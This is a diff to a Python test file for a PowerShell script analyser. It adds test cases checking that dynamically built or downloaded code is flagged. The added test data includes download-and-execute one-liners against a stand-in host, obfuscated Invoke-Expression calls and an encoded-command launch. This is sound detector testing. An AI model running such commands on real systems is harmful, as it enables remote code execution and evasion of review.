@@ -182,6 +182,36 @@ def test_what_may_do_anything_is_told() -> None:
     assert [text[at:].split()[0] for at in calls] == [".\\other.ps1", "Invoke-Site"]
 
 
+UNSEEN = [
+    "iex (iwr https://h.example/x)",
+    "iwr https://h.example/x | iex",
+    "$c = 'strm' + 'qm QMA'\niex $c",
+    "iex ('xtrmqm QMA'.Replace('x', 's'))",
+    "Invoke-Expression ([char]115 + 'trmqm QMA')",
+    "& ([scriptblock]::Create((iwr h)))",
+    "iwr https://h.example/x -OutFile up.ps1\n.\\up.ps1",
+    "powershell -enc $plan",
+]
+SEEN = [
+    "iex 'ls'",
+    ".\\up.ps1",
+    "& $run QMA",
+    "iwr https://h.example/x -OutFile a.zip",
+    ". .\\lib.ps1",
+]
+
+
+@pytest.mark.parametrize("text", UNSEEN)
+def test_a_text_that_is_made_when_the_script_runs_is_not_followed(text: str) -> None:
+    (place,) = script_in("powershell", text).unfollowed
+    assert text.count("\n", 0, place) == text.count("\n")
+
+
+@pytest.mark.parametrize("text", SEEN)
+def test_a_text_in_the_script_and_a_file_of_the_project_are_no_unknown_texts(text: str) -> None:
+    assert not script_in("powershell", text).unfollowed
+
+
 def test_a_password_before_the_commands_is_kept_nowhere() -> None:
     text = "'hunter2', 'DIS QMGR' | runmqsc -u ann QMA"
     script = script_in("powershell", text)
